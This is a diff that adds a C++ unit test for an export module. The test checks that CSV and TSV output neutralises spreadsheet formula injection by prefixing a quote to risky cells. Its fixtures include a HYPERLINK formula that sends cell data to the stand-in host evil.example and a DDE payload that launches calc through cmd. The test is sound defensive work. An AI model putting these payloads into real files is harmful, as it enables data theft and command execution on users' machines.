@@ -349,6 +349,33 @@ TEST_CASE("csv fields are quoted as RFC 4180 says", "[export]") {
     CHECK(csv_field("two\nlines") == "\"two\nlines\"");
 }
 
+TEST_CASE("a cell a spreadsheet would run as a formula is written as text, in CSV and TSV", "[export][hostile]") {
+    CHECK(csv_field("=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")") ==
+          "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"x\"\")\"");
+    CHECK(csv_field("+1+2") == "'+1+2");
+    CHECK(csv_field("-2+3") == "'-2+3");
+    CHECK(csv_field("@SUM(A1)") == "'@SUM(A1)");
+    CHECK(csv_field("\tcmd") == "'\tcmd");
+    CHECK(csv_field("\rcmd") == "\"'\rcmd\"");
+    // Numbers Attune writes, and text with a sign inside, stay as they are.
+    CHECK(csv_field("-0.25") == "-0.25");
+    CHECK(csv_field("12") == "12");
+    CHECK(csv_field("a=b") == "a=b");
+    CHECK(csv_field("-") == "'-");
+
+    const SmallCase c;
+    ObservationExportData data = c.rows(false);
+    REQUIRE_FALSE(data.rows.empty());
+    data.rows.front().comment = "=cmd|' /C calc'!A0";
+    data.rows.front().who_name = "@Ana";
+    CHECK(contains(observations_csv(data), ",'=cmd|' /C calc'!A0,"));
+    CHECK_FALSE(contains(observations_csv(data), ",=cmd"));
+    const std::string tsv = boris_aggregated_tsv(data);
+    CHECK(contains(tsv, "\t'=cmd|' /C calc'!A0"));
+    CHECK(contains(tsv, "\t'@Ana\t"));
+    CHECK_FALSE(contains(tsv, "\t=cmd"));
+}
+
 TEST_CASE("a private process note appears only when the data carries it, clearly marked", "[export][privacy]") {
     const SmallCase c;
     const SessionNoteData without = c.note(2, false);
